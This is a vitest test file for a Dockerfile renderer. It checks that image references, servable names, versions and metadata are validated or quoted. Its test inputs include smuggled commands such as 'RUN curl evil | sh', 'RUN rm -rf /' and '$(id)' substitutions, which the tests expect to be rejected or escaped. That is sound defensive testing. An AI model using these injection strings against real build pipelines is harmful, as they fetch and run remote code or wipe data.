import { describe, expect, it } from 'vitest';
import { BuildError } from '../../../main/errors.js';
import { checkImageRef, dockerQuote, renderDockerfile } from '../../../main/packager/dockerfile.js';

const base = { baseImage: 'python:3.11-slim', name: 'demo', version: '1.0.0', metadata: { dlhub: { name: 'demo' } } };

/** Instructions of a rendered Dockerfile: the first word of each logical (unescaped) line. */
function instructions(text: string): string[] {
  return text.replace(/\\\n/g, ' ').split('\n').filter((l) => l.trim() !== '').map((l) => l.split(' ')[0] ?? '');
}

describe('renderDockerfile', () => {
  it('writes the layout the runner expects', () => {
    const text = renderDockerfile({ ...base, contentKey: 'a'.repeat(64) });
    expect(text.split('\n')[0]).toBe('FROM python:3.11-slim');
    expect(text).toContain('RUN ["python3", "/opt/dlhub/runner/ensure_deps.py", "/opt/dlhub/runner/requirements.json"]');
    expect(text).toContain('ENV DLHUB_SERVABLE_DIR=/opt/dlhub/servable');
    expect(text).toContain(`org.dlhub.content-key="${'a'.repeat(64)}"`);
    expect(text).toContain('org.dlhub.name="demo"');
    expect(text).toContain('org.dlhub.version="1.0.0"');
    expect(text.trimEnd().split('\n').pop()).toBe('CMD ["python3", "/opt/dlhub/runner/dlhub_runner.py"]');
    expect(instructions(text)).toEqual(['FROM', 'COPY', 'COPY', 'RUN', 'COPY', 'ENV', 'LABEL', 'CMD']);
  });

  it.each([
    ['python:3.11\nRUN curl evil | sh'],
    ['python:3.11 AS x'],
    ['"python"'],
    ['python:$(id)'],
    ['python:${TAG}'],
    [''],
    ['Python:3'],
  ])('rejects the base image %j', (ref) => {
    expect(() => renderDockerfile({ ...base, baseImage: ref })).toThrow(BuildError);
  });

  it('accepts ordinary image references', () => {
    for (const ref of ['python:3.11-slim', 'dlhub-base:bookworm-a741a509a3a8', '127.0.0.1:5000/team/base:1', `busybox@sha256:${'0'.repeat(64)}`]) {
      expect(checkImageRef(ref)).toBe(ref);
    }
  });

  it.each([['demo\nRUN rm -rf /'], ['demo"x'], ['$(id)'], ['../x'], ['a b']])('rejects the name %j', (name) => {
    expect(() => renderDockerfile({ ...base, name })).toThrow(/Servable name/);
  });

  it('rejects a version with a newline or quote', () => {
    expect(() => renderDockerfile({ ...base, version: '1\nRUN id' })).toThrow(/version/);
    expect(() => renderDockerfile({ ...base, version: '1"' })).toThrow(/version/);
  });

  it('quotes hostile metadata so it stays one label value', () => {
    const metadata = { dlhub: { name: 'demo' }, datacite: { description: 'x"\nRUN id\n$(id) ${HOME} `id` \\ end' } };
    const text = renderDockerfile({ ...base, metadata });
    // JSON encoding turns the newlines into text, so no new instruction appears.
    expect(instructions(text)).toEqual(['FROM', 'COPY', 'COPY', 'RUN', 'COPY', 'ENV', 'LABEL', 'CMD']);
    const label = text.split('\n').find((l) => l.includes('org.dlhub.metadata='));
    expect(label).toContain('\\$(id) \\${HOME}');
    expect(label).not.toMatch(/[^\\]\$/);
  });

  it('refuses raw control characters and escapes quotes, backslashes and dollars', () => {
    expect(() => dockerQuote('a\nb')).toThrow(BuildError);
    expect(dockerQuote('a"b\\c$d')).toBe('"a\\"b\\\\c\\$d"');
  });
});
